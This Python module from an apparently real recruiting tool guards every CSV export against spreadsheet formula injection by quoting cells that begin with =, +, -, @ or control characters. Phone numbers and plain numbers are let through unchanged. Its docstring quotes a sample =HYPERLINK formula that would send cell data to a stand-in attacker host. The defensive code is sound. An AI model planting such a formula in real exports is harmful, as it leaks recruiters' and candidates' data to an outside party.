"""Every CSV file Outhire writes goes through `csv_writer`, which defuses formula cells.

A spreadsheet program runs a cell starting with = + - @ (or a tab or carriage return before
one) as a formula: a candidate named `=HYPERLINK("https://evil.example/?"&A1, "CV")` would
otherwise run on the recruiter's machine when they open an export (CSV injection, OWASP). The
cell is written with a quote in front, which spreadsheets show as text; `undo_formula_guard`
takes it off again when such a file is imported back.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# "+44 20 7946 0018" starts with "+" but is a phone number, not a formula
PHONE_RE = re.compile(r"^\+?[\d\s().\-/]{5,30}$")
# "-3.5", "+12", "-40%": a plain number, which a spreadsheet reads as that number
NUMBER_RE = re.compile(r"^[+-]?\d+(?:[.,]\d+)?%?$")


def formula_guard(value: str) -> str:
    """A quote in front of a value a spreadsheet would run as a formula."""
    if not value or value[0] not in FORMULA_START:
        return value
    if value[0] in "+-" and (PHONE_RE.match(value) or NUMBER_RE.match(value)):
        return value
    return "'" + value


def undo_formula_guard(value: str) -> str:
    """A value as it was before an export put a quote in front of it (see `formula_guard`)."""
    if len(value) > 1 and value[0] == "'" and value[1] in FORMULA_START:
        return value[1:]
    return value


def guard_cell(value: Any) -> Any:
    """A cell as written: text guarded, numbers and dates as they are, None empty."""
    if value is None:
        return ""
    if isinstance(value, str):
        return formula_guard(value)
    return value


class GuardedWriter:
    """csv.writer whose every text cell has been through `formula_guard`."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([guard_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **kwargs: Any) -> GuardedWriter:
    """The one way to write CSV: `csv_writer(file).writerow([...])`, formula cells defused."""
    return GuardedWriter(out, **kwargs)
